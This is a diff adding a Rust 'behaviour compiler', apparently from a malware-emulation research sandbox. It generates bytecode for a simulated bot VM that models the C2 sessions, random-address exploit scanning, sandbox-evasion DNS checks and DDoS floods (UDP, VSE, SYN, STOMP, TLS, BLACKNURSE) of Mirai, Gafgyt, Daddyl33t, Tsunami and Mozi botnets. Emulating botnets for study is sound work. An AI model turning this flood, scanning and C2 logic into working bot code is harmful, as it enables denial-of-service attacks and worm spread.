@@ -1,0 +1,1279 @@
+//! The behaviour compiler: [`BehaviorSpec`] → bot bytecode.
+//!
+//! Register conventions shared by all generated programs:
+//!
+//! | reg | use |
+//! |-----|-----|
+//! | r0  | C2 socket fd |
+//! | r1  | C2 IP |
+//! | r2  | result scratch |
+//! | r3  | recv length |
+//! | r4  | parse position |
+//! | r5  | attack/scan socket fd |
+//! | r6  | attack target IP |
+//! | r7  | attack target port |
+//! | r8  | attack duration (seconds) |
+//! | r9  | loop counter |
+//! | r10 | constant 0 |
+//! | r11 | scratch (scan IP, masks) |
+//! | r12 | random value |
+//! | r13 | constant 1 |
+//! | r14 | constant 0xffffffff (-1) |
+//! | r15 | scratch |
+
+use std::net::Ipv4Addr;
+
+use malnet_protocols::Family;
+use malnet_wire::dns::{DnsMessage, DomainName};
+use malnet_wire::icmp::IcmpMessage;
+
+use crate::binary::BotProgram;
+use crate::botvm::{Op, ProgramBuilder, SockKind, CRAFT_OFF};
+use crate::spec::{BehaviorSpec, C2Endpoint};
+
+const R_C2FD: u8 = 0;
+const R_C2IP: u8 = 1;
+const R_RES: u8 = 2;
+const R_LEN: u8 = 3;
+const R_POS: u8 = 4;
+const R_FD2: u8 = 5;
+const R_AIP: u8 = 6;
+const R_APORT: u8 = 7;
+const R_DUR: u8 = 8;
+const R_CNT: u8 = 9;
+const R_ZERO: u8 = 10;
+const R_SCR1: u8 = 11;
+const R_RAND: u8 = 12;
+const R_ONE: u8 = 13;
+const R_M1: u8 = 14;
+const R_SCR2: u8 = 15;
+
+/// Deterministic label factory.
+struct Names(u32);
+impl Names {
+    fn next(&mut self, p: &str) -> String {
+        self.0 += 1;
+        format!("{}_{}", p, self.0)
+    }
+}
+
+/// Compile a behaviour spec into a loadable program.
+pub fn compile(spec: &BehaviorSpec) -> BotProgram {
+    let mut b = ProgramBuilder::new();
+    let mut n = Names(0);
+
+    // The family banner lives in the blob (never referenced by code,
+    // exactly like the busybox banner strings in real samples).
+    let _ = b.blob_str(&spec.banner);
+    // Constants.
+    b.op(Op::Ldi { r: R_ZERO, a: 0 })
+        .op(Op::Ldi { r: R_ONE, a: 1 })
+        .op(Op::Ldi { r: R_M1, a: u32::MAX });
+
+    // Evasion: check connectivity via DNS; abort when the Internet is
+    // "missing" (the sandbox's InetSim counter-measure defeats this).
+    if spec.evasive {
+        let ok = n.next("evade_ok");
+        emit_resolve(
+            &mut b,
+            &mut n,
+            spec.resolver,
+            "update.busybox-cdn.example.org",
+            R_SCR2,
+            "evade_fail",
+        );
+        b.jump(Op::Jmp { a: 0 }, &ok);
+        b.label("evade_fail").op(Op::End);
+        b.label(&ok);
+    }
+
+    match spec.family {
+        Family::Mozi | Family::Hajime => compile_p2p(spec, &mut b, &mut n),
+        Family::VpnFilter => compile_vpnfilter(spec, &mut b, &mut n),
+        _ => compile_c2_bot(spec, &mut b, &mut n),
+    }
+
+    let (bytecode, blob) = b.build();
+    BotProgram { bytecode, blob }
+}
+
+/// DNS resolution: query `name` via `resolver`; on success the answer's
+/// first A record lands in `dst`; on failure jump to `fail`.
+fn emit_resolve(
+    b: &mut ProgramBuilder,
+    n: &mut Names,
+    resolver: Ipv4Addr,
+    name: &str,
+    dst: u8,
+    fail: &str,
+) {
+    let dn = DomainName::new(name).expect("valid domain in spec");
+    let query = DnsMessage::query(0x4d4e, dn).encode();
+    let qname_len = name.len() as u32 + 2;
+    let answer_off = 12 + (qname_len + 4) + qname_len + 10;
+    let (qoff, qlen) = b.blob(&query);
+    b.op(Op::Socket {
+        r: R_FD2,
+        kind: SockKind::Udp,
+    })
+    .op(Op::Ldi {
+        r: R_SCR1,
+        a: u32::from(resolver),
+    })
+    .op(Op::SendTo {
+        x: R_FD2,
+        y: R_SCR1,
+        r: 0,
+        a: 53,
+        b: qoff,
+        c: qlen,
+    })
+    .op(Op::RecvFrom {
+        r: R_LEN,
+        x: R_FD2,
+        a: 5000,
+    })
+    .op(Op::Close { x: R_FD2 });
+    b.jump(
+        Op::Jeq {
+            x: R_LEN,
+            y: R_M1,
+            a: 0,
+        },
+        fail,
+    );
+    // rcode == 0?
+    b.op(Op::Ldi { r: R_POS, a: 3 })
+        .op(Op::Ldb { r: R_RES, x: R_POS })
+        .op(Op::Ldi { r: R_SCR1, a: 0x0f })
+        .op(Op::And {
+            r: R_RES,
+            x: R_RES,
+            y: R_SCR1,
+        });
+    b.jump(
+        Op::Jne {
+            x: R_RES,
+            y: R_ZERO,
+            a: 0,
+        },
+        fail,
+    );
+    // ANCOUNT low byte nonzero?
+    b.op(Op::Ldi { r: R_POS, a: 7 })
+        .op(Op::Ldb { r: R_RES, x: R_POS });
+    b.jump(
+        Op::Jeq {
+            x: R_RES,
+            y: R_ZERO,
+            a: 0,
+        },
+        fail,
+    );
+    b.op(Op::Ldi {
+        r: R_POS,
+        a: answer_off,
+    })
+    .op(Op::Ldw { r: dst, x: R_POS });
+    let _ = n;
+}
+
+/// One burst of scanning + exploitation: for each exploit, try
+/// `scan_burst` random addresses in the pool, firing the payload at any
+/// victim that completes the handshake.
+fn emit_scan_burst(b: &mut ProgramBuilder, n: &mut Names, spec: &BehaviorSpec) {
+    for plan in &spec.exploits {
+        let payload = plan.payload();
+        let (poff, plen) = b.blob(&payload);
+        let port = u32::from(plan.port());
+        let top = n.next("scan");
+        let fail = n.next("scan_fail");
+        let next = n.next("scan_next");
+        b.op(Op::Ldi {
+            r: R_CNT,
+            a: spec.scan_burst.max(1),
+        });
+        b.label(&top);
+        b.op(Op::Rand { r: R_RAND })
+            .op(Op::Ldi {
+                r: R_SCR1,
+                a: spec.scan_mask,
+            })
+            .op(Op::And {
+                r: R_RAND,
+                x: R_RAND,
+                y: R_SCR1,
+            })
+            .op(Op::Ldi {
+                r: R_SCR1,
+                a: u32::from(spec.scan_base),
+            })
+            .op(Op::Or {
+                r: R_SCR1,
+                x: R_SCR1,
+                y: R_RAND,
+            })
+            .op(Op::Socket {
+                r: R_FD2,
+                kind: SockKind::Tcp,
+            })
+            .op(Op::Connect {
+                r: R_RES,
+                x: R_FD2,
+                y: R_SCR1,
+                a: port,
+                b: 0,
+            });
+        b.jump(
+            Op::Jne {
+                x: R_RES,
+                y: R_ZERO,
+                a: 0,
+            },
+            &fail,
+        );
+        b.op(Op::Send {
+            x: R_FD2,
+            a: poff,
+            b: plen,
+        })
+        .op(Op::Recv {
+            r: R_RES,
+            x: R_FD2,
+            a: 2000,
+        })
+        .op(Op::Close { x: R_FD2 });
+        b.jump(Op::Jmp { a: 0 }, &next);
+        b.label(&fail).op(Op::Close { x: R_FD2 });
+        b.label(&next).op(Op::Sub {
+            r: R_CNT,
+            x: R_CNT,
+            y: R_ONE,
+        });
+        b.jump(
+            Op::Jne {
+                x: R_CNT,
+                y: R_ZERO,
+                a: 0,
+            },
+            &top,
+        );
+    }
+}
+
+/// Flood-loop preamble: compute `count = duration * pps` in `R_CNT`;
+/// jumps to `ret` when the count is zero.
+fn emit_flood_count(b: &mut ProgramBuilder, spec: &BehaviorSpec, ret: &str) {
+    b.op(Op::Ldi {
+        r: R_SCR2,
+        a: spec.attack_pps.max(1),
+    })
+    .op(Op::Mul {
+        r: R_CNT,
+        x: R_DUR,
+        y: R_SCR2,
+    });
+    b.jump(
+        Op::Jeq {
+            x: R_CNT,
+            y: R_ZERO,
+            a: 0,
+        },
+        ret,
+    );
+}
+
+fn per_packet_sleep_ms(pps: u32) -> u32 {
+    (1000 / pps.max(1)).max(1)
+}
+
+/// Datagram flood from a blob payload: target `R_AIP:R_APORT` for
+/// `R_DUR` seconds.
+fn emit_udp_flood(
+    b: &mut ProgramBuilder,
+    n: &mut Names,
+    spec: &BehaviorSpec,
+    payload: &[u8],
+    ret: &str,
+) {
+    let (poff, plen) = b.blob(payload);
+    emit_flood_count(b, spec, ret);
+    b.op(Op::Socket {
+        r: R_FD2,
+        kind: SockKind::Udp,
+    });
+    let top = n.next("udpf");
+    b.label(&top);
+    b.op(Op::SendTo {
+        x: R_FD2,
+        y: R_AIP,
+        r: R_APORT,
+        a: 0,
+        b: poff,
+        c: plen,
+    })
+    .op(Op::SleepMs {
+        a: per_packet_sleep_ms(spec.attack_pps),
+    })
+    .op(Op::Sub {
+        r: R_CNT,
+        x: R_CNT,
+        y: R_ONE,
+    });
+    b.jump(
+        Op::Jne {
+            x: R_CNT,
+            y: R_ZERO,
+            a: 0,
+        },
+        &top,
+    );
+    b.op(Op::Close { x: R_FD2 });
+    b.jump(Op::Jmp { a: 0 }, ret);
+}
+
+/// SYN flood via a raw socket and a hand-patched TCP header.
+fn emit_syn_flood(b: &mut ProgramBuilder, n: &mut Names, spec: &BehaviorSpec, ret: &str) {
+    // 20-byte TCP header template: SYN, data offset 5, window 0xffff.
+    let tmpl: [u8; 20] = [
+        0xd3, 0x31, // src port placeholder
+        0x00, 0x00, // dst port patched at run time
+        0, 0, 0, 0, // seq patched
+        0, 0, 0, 0, // ack
+        0x50, 0x02, // offset 5, SYN
+        0xff, 0xff, // window
+        0, 0, 0, 0, // checksum (filled by "kernel"), urgent
+    ];
+    let (toff, _) = b.blob(&tmpl);
+    emit_flood_count(b, spec, ret);
+    b.op(Op::Cpy {
+        a: toff,
+        b: 20,
+        c: CRAFT_OFF,
+    });
+    // dst port bytes 2..3.
+    b.op(Op::Shr {
+        r: R_SCR2,
+        x: R_APORT,
+        a: 8,
+    })
+    .op(Op::Ldi {
+        r: R_POS,
+        a: CRAFT_OFF + 2,
+    })
+    .op(Op::Stb { x: R_POS, y: R_SCR2 })
+    .op(Op::Ldi {
+        r: R_POS,
+        a: CRAFT_OFF + 3,
+    })
+    .op(Op::Stb { x: R_POS, y: R_APORT })
+    .op(Op::Socket {
+        r: R_FD2,
+        kind: SockKind::RawTcp,
+    });
+    let top = n.next("synf");
+    b.label(&top);
+    b.op(Op::Rand { r: R_RAND });
+    if spec.syn_multi_sport {
+        // Randomise source port (bytes 0..1).
+        b.op(Op::Ldi {
+            r: R_POS,
+            a: CRAFT_OFF,
+        })
+        .op(Op::Shr {
+            r: R_SCR2,
+            x: R_RAND,
+            a: 8,
+        })
+        .op(Op::Stb { x: R_POS, y: R_SCR2 })
+        .op(Op::Ldi {
+            r: R_POS,
+            a: CRAFT_OFF + 1,
+        })
+        .op(Op::Stb { x: R_POS, y: R_RAND });
+    }
+    // Randomise a sequence byte.
+    b.op(Op::Ldi {
+        r: R_POS,
+        a: CRAFT_OFF + 4,
+    })
+    .op(Op::Stb { x: R_POS, y: R_RAND })
+    .op(Op::RawSend {
+        x: R_FD2,
+        y: R_AIP,
+        a: CRAFT_OFF,
+        b: 20,
+    })
+    .op(Op::SleepMs {
+        a: per_packet_sleep_ms(spec.attack_pps),
+    })
+    .op(Op::Sub {
+        r: R_CNT,
+        x: R_CNT,
+        y: R_ONE,
+    });
+    b.jump(
+        Op::Jne {
+            x: R_CNT,
+            y: R_ZERO,
+            a: 0,
+        },
+        &top,
+    );
+    b.op(Op::Close { x: R_FD2 });
+    b.jump(Op::Jmp { a: 0 }, ret);
+}
+
+/// Connection-oriented flood (STOMP / Mirai TLS): complete the
+/// handshake, push frames, tear down with RST, repeat.
+fn emit_conn_flood(
+    b: &mut ProgramBuilder,
+    n: &mut Names,
+    frame: &[u8],
+    frames_per_conn: u32,
+    conns_per_sec: u32,
+    ret: &str,
+) {
+    let (foff, flen) = b.blob(frame);
+    // count = duration * conns_per_sec
+    b.op(Op::Ldi {
+        r: R_SCR2,
+        a: conns_per_sec.max(1),
+    })
+    .op(Op::Mul {
+        r: R_CNT,
+        x: R_DUR,
+        y: R_SCR2,
+    });
+    b.jump(
+        Op::Jeq {
+            x: R_CNT,
+            y: R_ZERO,
+            a: 0,
+        },
+        ret,
+    );
+    let top = n.next("connf");
+    let skip = n.next("connf_skip");
+    let next = n.next("connf_next");
+    b.label(&top);
+    b.op(Op::Socket {
+        r: R_FD2,
+        kind: SockKind::Tcp,
+    })
+    .op(Op::Connect {
+        r: R_RES,
+        x: R_FD2,
+        y: R_AIP,
+        a: 0,
+        b: u32::from(R_APORT),
+    });
+    b.jump(
+        Op::Jne {
+            x: R_RES,
+            y: R_ZERO,
+            a: 0,
+        },
+        &skip,
+    );
+    for _ in 0..frames_per_conn {
+        b.op(Op::Send {
+            x: R_FD2,
+            a: foff,
+            b: flen,
+        });
+    }
+    b.op(Op::Abort { x: R_FD2 });
+    b.jump(Op::Jmp { a: 0 }, &next);
+    b.label(&skip).op(Op::Close { x: R_FD2 });
+    b.label(&next)
+        .op(Op::SleepMs {
+            a: (1000 / conns_per_sec.max(1)).max(1),
+        })
+        .op(Op::Sub {
+            r: R_CNT,
+            x: R_CNT,
+            y: R_ONE,
+        });
+    b.jump(
+        Op::Jne {
+            x: R_CNT,
+            y: R_ZERO,
+            a: 0,
+        },
+        &top,
+    );
+    b.jump(Op::Jmp { a: 0 }, ret);
+}
+
+/// Gafgyt STD: one random string generated up front, then flooded.
+fn emit_std_flood(b: &mut ProgramBuilder, n: &mut Names, spec: &BehaviorSpec, ret: &str) {
+    emit_flood_count(b, spec, ret);
+    // Build 64 random bytes at CRAFT_OFF.
+    b.op(Op::Ldi {
+        r: R_POS,
+        a: CRAFT_OFF,
+    })
+    .op(Op::Ldi {
+        r: R_SCR1,
+        a: CRAFT_OFF + 64,
+    });
+    let gen = n.next("stdgen");
+    b.label(&gen);
+    b.op(Op::Rand { r: R_RAND })
+        .op(Op::Stb {
+            x: R_POS,
+            y: R_RAND,
+        })
+        .op(Op::Addi {
+            r: R_POS,
+            x: R_POS,
+            a: 1,
+        });
+    b.jump(
+        Op::Jlt {
+            x: R_POS,
+            y: R_SCR1,
+            a: 0,
+        },
+        &gen,
+    );
+    b.op(Op::Socket {
+        r: R_FD2,
+        kind: SockKind::Udp,
+    });
+    let top = n.next("stdf");
+    b.label(&top);
+    b.op(Op::SendToR {
+        x: R_FD2,
+        y: R_AIP,
+        r: R_APORT,
+        a: CRAFT_OFF,
+        b: 64,
+    })
+    .op(Op::SleepMs {
+        a: per_packet_sleep_ms(spec.attack_pps),
+    })
+    .op(Op::Sub {
+        r: R_CNT,
+        x: R_CNT,
+        y: R_ONE,
+    });
+    b.jump(
+        Op::Jne {
+            x: R_CNT,
+            y: R_ZERO,
+            a: 0,
+        },
+        &top,
+    );
+    b.op(Op::Close { x: R_FD2 });
+    b.jump(Op::Jmp { a: 0 }, ret);
+}
+
+/// BLACKNURSE: raw ICMP type-3 code-3 flood.
+fn emit_blacknurse(b: &mut ProgramBuilder, n: &mut Names, spec: &BehaviorSpec, ret: &str) {
+    let msg = IcmpMessage::DestinationUnreachable {
+        code: 3,
+        payload: vec![0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0],
+    }
+    .encode();
+    let mlen = msg.len() as u32;
+    let (moff, _) = b.blob(&msg);
+    emit_flood_count(b, spec, ret);
+    b.op(Op::Cpy {
+        a: moff,
+        b: mlen,
+        c: CRAFT_OFF,
+    })
+    .op(Op::Socket {
+        r: R_FD2,
+        kind: SockKind::RawIcmp,
+    });
+    let top = n.next("nurse");
+    b.label(&top);
+    b.op(Op::RawSend {
+        x: R_FD2,
+        y: R_AIP,
+        a: CRAFT_OFF,
+        b: mlen,
+    })
+    .op(Op::SleepMs {
+        a: per_packet_sleep_ms(spec.attack_pps),
+    })
+    .op(Op::Sub {
+        r: R_CNT,
+        x: R_CNT,
+        y: R_ONE,
+    });
+    b.jump(
+        Op::Jne {
+            x: R_CNT,
+            y: R_ZERO,
+            a: 0,
+        },
+        &top,
+    );
+    b.op(Op::Close { x: R_FD2 });
+    b.jump(Op::Jmp { a: 0 }, ret);
+}
+
+/// The classic C2 bot main structure shared by Mirai / Gafgyt /
+/// Daddyl33t / Tsunami.
+fn compile_c2_bot(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
+    b.label("main");
+    // Try each C2 candidate.
+    for (i, (ep, port)) in spec.c2.iter().enumerate() {
+        let this = format!("try_c2_{i}");
+        let nextl = format!("try_c2_{}", i + 1);
+        b.label(&this);
+        match ep {
+            C2Endpoint::Ip(ip) => {
+                b.op(Op::Ldi {
+                    r: R_C2IP,
+                    a: u32::from(*ip),
+                });
+            }
+            C2Endpoint::Domain(d) => {
+                emit_resolve(b, n, spec.resolver, d, R_C2IP, &nextl);
+            }
+        }
+        b.op(Op::Socket {
+            r: R_C2FD,
+            kind: SockKind::Tcp,
+        })
+        .op(Op::Connect {
+            r: R_RES,
+            x: R_C2FD,
+            y: R_C2IP,
+            a: u32::from(*port),
+            b: 0,
+        });
+        b.jump(
+            Op::Jeq {
+                x: R_RES,
+                y: R_ZERO,
+                a: 0,
+            },
+            "session",
+        );
+        b.op(Op::Close { x: R_C2FD });
+    }
+    b.label(&format!("try_c2_{}", spec.c2.len()));
+    // All candidates failed: scan, sleep, retry.
+    emit_scan_burst(b, n, spec);
+    b.op(Op::SleepMs { a: 30_000 });
+    b.jump(Op::Jmp { a: 0 }, "main");
+
+    // --- session ---
+    b.label("session");
+    match spec.family {
+        Family::Mirai => {
+            let (hoff, hlen) = b.blob(&malnet_protocols::mirai::HANDSHAKE);
+            b.op(Op::Send {
+                x: R_C2FD,
+                a: hoff,
+                b: hlen,
+            });
+        }
+        Family::Gafgyt => {
+            let login = malnet_protocols::gafgyt::login_line("mips");
+            let (loff, llen) = b.blob_str(&login);
+            b.op(Op::Send {
+                x: R_C2FD,
+                a: loff,
+                b: llen,
+            });
+        }
+        Family::Daddyl33t => {
+            let login = malnet_protocols::daddyl33t::login_line(spec.bot_id);
+            let (loff, llen) = b.blob_str(&login);
+            b.op(Op::Send {
+                x: R_C2FD,
+                a: loff,
+                b: llen,
+            });
+        }
+        Family::Tsunami => {
+            let reg = malnet_protocols::tsunami::register_lines(&format!("x{:06x}", spec.bot_id));
+            let (roff, rlen) = b.blob_str(&reg);
+            b.op(Op::Send {
+                x: R_C2FD,
+                a: roff,
+                b: rlen,
+            });
+            let join = malnet_protocols::tsunami::join_line("#iot");
+            let (joff, jlen) = b.blob_str(&join);
+            b.op(Op::Send {
+                x: R_C2FD,
+                a: joff,
+                b: jlen,
+            });
+        }
+        _ => {}
+    }
+
+    b.label("sess_loop");
+    b.op(Op::Recv {
+        r: R_LEN,
+        x: R_C2FD,
+        a: spec.recv_timeout_ms,
+    });
+    b.jump(
+        Op::Jeq {
+            x: R_LEN,
+            y: R_M1,
+            a: 0,
+        },
+        "idle",
+    );
+    b.jump(
+        Op::Jeq {
+            x: R_LEN,
+            y: R_ZERO,
+            a: 0,
+        },
+        "reconnect",
+    );
+
+    match spec.family {
+        Family::Mirai => emit_mirai_commands(spec, b, n),
+        Family::Gafgyt => emit_gafgyt_commands(spec, b, n),
+        Family::Daddyl33t => emit_daddy_commands(spec, b, n),
+        Family::Tsunami => emit_tsunami_commands(spec, b, n),
+        _ => {
+            b.jump(Op::Jmp { a: 0 }, "sess_loop");
+        }
+    }
+
+    // --- idle: keepalive + scan burst ---
+    b.label("idle");
+    match spec.family {
+        Family::Mirai => {
+            let (koff, klen) = b.blob(&malnet_protocols::mirai::KEEPALIVE);
+            b.op(Op::Send {
+                x: R_C2FD,
+                a: koff,
+                b: klen,
+            });
+        }
+        Family::Gafgyt => {
+            let (koff, klen) = b.blob_str(malnet_protocols::gafgyt::PONG);
+            b.op(Op::Send {
+                x: R_C2FD,
+                a: koff,
+                b: klen,
+            });
+        }
+        Family::Daddyl33t => {
+            let (koff, klen) = b.blob_str(malnet_protocols::daddyl33t::PONG);
+            b.op(Op::Send {
+                x: R_C2FD,
+                a: koff,
+                b: klen,
+            });
+        }
+        _ => {}
+    }
+    emit_scan_burst(b, n, spec);
+    b.jump(Op::Jmp { a: 0 }, "sess_loop");
+
+    b.label("reconnect");
+    b.op(Op::Close { x: R_C2FD }).op(Op::SleepMs { a: 10_000 });
+    b.jump(Op::Jmp { a: 0 }, "main");
+}
+
+fn emit_mirai_commands(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
+    // Keepalive echo: len < 3.
+    b.op(Op::Ldi { r: R_SCR2, a: 3 });
+    b.jump(
+        Op::Jlt {
+            x: R_LEN,
+            y: R_SCR2,
+            a: 0,
+        },
+        "sess_loop",
+    );
+    // Binary layout: [u16 len][u32 dur][u8 vec][u8 n][u32 ip][u8 mask]
+    //                [u8 nflags][u8 key][u8 flen][ascii port]
+    b.op(Op::Ldi { r: R_POS, a: 2 })
+        .op(Op::Ldw { r: R_DUR, x: R_POS })
+        .op(Op::Ldi { r: R_POS, a: 6 })
+        .op(Op::Ldb { r: R_SCR1, x: R_POS })
+        .op(Op::Ldi { r: R_POS, a: 8 })
+        .op(Op::Ldw { r: R_AIP, x: R_POS })
+        .op(Op::Ldi { r: R_POS, a: 16 })
+        .op(Op::ParseNum {
+            r: R_APORT,
+            x: R_POS,
+        });
+    for (vec_id, label) in [
+        (0u32, "atk_udp"),
+        (1, "atk_vse"),
+        (3, "atk_syn"),
+        (5, "atk_stomp"),
+        (33, "atk_tls"),
+    ] {
+        b.op(Op::Ldi { r: R_SCR2, a: vec_id });
+        b.jump(
+            Op::Jeq {
+                x: R_SCR1,
+                y: R_SCR2,
+                a: 0,
+            },
+            label,
+        );
+    }
+    b.jump(Op::Jmp { a: 0 }, "sess_loop");
+
+    b.label("atk_udp");
+    emit_udp_flood(b, n, spec, &[0u8], "sess_loop");
+    b.label("atk_vse");
+    emit_udp_flood(
+        b,
+        n,
+        spec,
+        b"\xff\xff\xff\xffTSource Engine Query\x00",
+        "sess_loop",
+    );
+    b.label("atk_syn");
+    emit_syn_flood(b, n, spec, "sess_loop");
+    b.label("atk_stomp");
+    emit_conn_flood(
+        b,
+        n,
+        b"SEND\ndestination:/queue/a\n\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\x00",
+        8,
+        2,
+        "sess_loop",
+    );
+    b.label("atk_tls");
+    emit_conn_flood(b, n, &[0x16u8; 1024], 3, 2, "sess_loop");
+}
+
+fn emit_gafgyt_commands(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
+    let (ping_off, _) = b.blob_str("PING");
+    let (pong_off, pong_len) = b.blob_str(malnet_protocols::gafgyt::PONG);
+    let (udp_off, _) = b.blob_str("!* UDP ");
+    let (std_off, _) = b.blob_str("!* STD ");
+    let (vse_off, _) = b.blob_str("!* VSE ");
+    b.op(Op::Ldi { r: R_POS, a: 0 });
+    b.op(Op::Match {
+        r: R_RES,
+        x: R_POS,
+        a: ping_off,
+        b: 4,
+    });
+    b.jump(
+        Op::Jeq {
+            x: R_RES,
+            y: R_ONE,
+            a: 0,
+        },
+        "g_pong",
+    );
+    for (off, label) in [(udp_off, "g_udp"), (std_off, "g_std"), (vse_off, "g_vse")] {
+        b.op(Op::Match {
+            r: R_RES,
+            x: R_POS,
+            a: off,
+            b: 7,
+        });
+        b.jump(
+            Op::Jeq {
+                x: R_RES,
+                y: R_ONE,
+                a: 0,
+            },
+            label,
+        );
+    }
+    b.jump(Op::Jmp { a: 0 }, "sess_loop");
+
+    b.label("g_pong");
+    b.op(Op::Send {
+        x: R_C2FD,
+        a: pong_off,
+        b: pong_len,
+    });
+    b.jump(Op::Jmp { a: 0 }, "sess_loop");
+
+    // Shared "parse ip port time from offset 7" prologue.
+    for label in ["g_udp", "g_std", "g_vse"] {
+        b.label(label);
+        b.op(Op::Ldi { r: R_POS, a: 7 })
+            .op(Op::ParseIp {
+                r: R_AIP,
+                x: R_POS,
+            })
+            .op(Op::SkipSp { x: R_POS })
+            .op(Op::ParseNum {
+                r: R_APORT,
+                x: R_POS,
+            })
+            .op(Op::SkipSp { x: R_POS })
+            .op(Op::ParseNum {
+                r: R_DUR,
+                x: R_POS,
+            });
+        match label {
+            "g_udp" => emit_udp_flood(b, n, spec, &[0u8], "sess_loop"),
+            "g_std" => emit_std_flood(b, n, spec, "sess_loop"),
+            _ => emit_udp_flood(
+                b,
+                n,
+                spec,
+                b"\xff\xff\xff\xffTSource Engine Query\x00",
+                "sess_loop",
+            ),
+        }
+    }
+}
+
+fn emit_daddy_commands(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
+    let (ping_off, _) = b.blob_str(".ping");
+    let (pong_off, pong_len) = b.blob_str(malnet_protocols::daddyl33t::PONG);
+    let (udp_off, _) = b.blob_str(".udpraw ");
+    let (syn_off, _) = b.blob_str(".hydrasyn ");
+    let (tls_off, _) = b.blob_str(".tls ");
+    let (nurse_off, _) = b.blob_str(".nurse ");
+    let (nfo_off, _) = b.blob_str(".nfov6 ");
+    b.op(Op::Ldi { r: R_POS, a: 0 });
+    b.op(Op::Match {
+        r: R_RES,
+        x: R_POS,
+        a: ping_off,
+        b: 5,
+    });
+    b.jump(
+        Op::Jeq {
+            x: R_RES,
+            y: R_ONE,
+            a: 0,
+        },
+        "d_pong",
+    );
+    for (off, len, label) in [
+        (udp_off, 8u32, "d_udp"),
+        (syn_off, 10, "d_syn"),
+        (tls_off, 5, "d_tls"),
+        (nurse_off, 7, "d_nurse"),
+        (nfo_off, 7, "d_nfo"),
+    ] {
+        b.op(Op::Match {
+            r: R_RES,
+            x: R_POS,
+            a: off,
+            b: len,
+        });
+        b.jump(
+            Op::Jeq {
+                x: R_RES,
+                y: R_ONE,
+                a: 0,
+            },
+            label,
+        );
+    }
+    b.jump(Op::Jmp { a: 0 }, "sess_loop");
+
+    b.label("d_pong");
+    b.op(Op::Send {
+        x: R_C2FD,
+        a: pong_off,
+        b: pong_len,
+    });
+    b.jump(Op::Jmp { a: 0 }, "sess_loop");
+
+    // .udpraw / .hydrasyn / .tls parse: ip port time.
+    for (skip, label) in [(8u32, "d_udp"), (10, "d_syn"), (5, "d_tls")] {
+        b.label(label);
+        b.op(Op::Ldi { r: R_POS, a: skip })
+            .op(Op::ParseIp {
+                r: R_AIP,
+                x: R_POS,
+            })
+            .op(Op::SkipSp { x: R_POS })
+            .op(Op::ParseNum {
+                r: R_APORT,
+                x: R_POS,
+            })
+            .op(Op::SkipSp { x: R_POS })
+            .op(Op::ParseNum {
+                r: R_DUR,
+                x: R_POS,
+            });
+        match label {
+            "d_udp" => emit_udp_flood(b, n, spec, &[0u8], "sess_loop"),
+            "d_syn" => emit_syn_flood(b, n, spec, "sess_loop"),
+            // Daddyl33t TLS rides UDP ("possibly DTLS"): encoded datagrams.
+            _ => emit_udp_flood(
+                b,
+                n,
+                spec,
+                b"\x16\xfe\xfd\x00\x00\x00\x00\x00\x00\x00\x00\x00\x30ClientHello-junk-payload",
+                "sess_loop",
+            ),
+        }
+    }
+
+    // .nurse ip time (no port).
+    b.label("d_nurse");
+    b.op(Op::Ldi { r: R_POS, a: 7 })
+        .op(Op::ParseIp {
+            r: R_AIP,
+            x: R_POS,
+        })
+        .op(Op::SkipSp { x: R_POS })
+        .op(Op::ParseNum {
+            r: R_DUR,
+            x: R_POS,
+        })
+        .op(Op::Ldi { r: R_APORT, a: 0 });
+    emit_blacknurse(b, n, spec, "sess_loop");
+
+    // .nfov6 ip time (fixed UDP port 238, custom payload).
+    b.label("d_nfo");
+    b.op(Op::Ldi { r: R_POS, a: 7 })
+        .op(Op::ParseIp {
+            r: R_AIP,
+            x: R_POS,
+        })
+        .op(Op::SkipSp { x: R_POS })
+        .op(Op::ParseNum {
+            r: R_DUR,
+            x: R_POS,
+        })
+        .op(Op::Ldi {
+            r: R_APORT,
+            a: u32::from(malnet_protocols::daddyl33t::NFO_PORT),
+        });
+    emit_udp_flood(b, n, spec, b"NFOV6\x00\x01\x02custom-probe", "sess_loop");
+}
+
+fn emit_tsunami_commands(_spec: &BehaviorSpec, b: &mut ProgramBuilder, _n: &mut Names) {
+    // IRC: answer PING, otherwise idle. No attack vocabulary (the study's
+    // D-DDOS profiles cover Mirai/Gafgyt/Daddyl33t only).
+    let (ping_off, _) = b.blob_str("PING");
+    let (pong_off, pong_len) = b.blob_str("PONG :irc\r\n");
+    b.op(Op::Ldi { r: R_POS, a: 0 });
+    b.op(Op::Match {
+        r: R_RES,
+        x: R_POS,
+        a: ping_off,
+        b: 4,
+    });
+    b.jump(
+        Op::Jne {
+            x: R_RES,
+            y: R_ONE,
+            a: 0,
+        },
+        "sess_loop",
+    );
+    b.op(Op::Send {
+        x: R_C2FD,
+        a: pong_off,
+        b: pong_len,
+    });
+    b.jump(Op::Jmp { a: 0 }, "sess_loop");
+}
+
+/// P2P families: gossip with the embedded peer list over UDP.
+fn compile_p2p(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
+    use malnet_protocols::mozi::MoziMsg;
+    let mut node_id = [0u8; 20];
+    node_id[..4].copy_from_slice(&spec.bot_id.to_be_bytes());
+    let ping = MoziMsg::Ping { node_id }.encode();
+    let find = MoziMsg::FindNode { node_id }.encode();
+    let (ping_off, ping_len) = b.blob(&ping);
+    let (find_off, find_len) = b.blob(&find);
+    b.label("p2p_loop");
+    for (peer, port) in &spec.peers {
+        b.op(Op::Socket {
+            r: R_FD2,
+            kind: SockKind::Udp,
+        })
+        .op(Op::Ldi {
+            r: R_SCR1,
+            a: u32::from(*peer),
+        })
+        .op(Op::SendTo {
+            x: R_FD2,
+            y: R_SCR1,
+            r: 0,
+            a: u32::from(*port),
+            b: ping_off,
+            c: ping_len,
+        })
+        .op(Op::SendTo {
+            x: R_FD2,
+            y: R_SCR1,
+            r: 0,
+            a: u32::from(*port),
+            b: find_off,
+            c: find_len,
+        })
+        .op(Op::RecvFrom {
+            r: R_LEN,
+            x: R_FD2,
+            a: 3000,
+        })
+        .op(Op::Close { x: R_FD2 });
+    }
+    emit_scan_burst(b, n, spec);
+    b.op(Op::SleepMs { a: 30_000 });
+    b.jump(Op::Jmp { a: 0 }, "p2p_loop");
+}
+
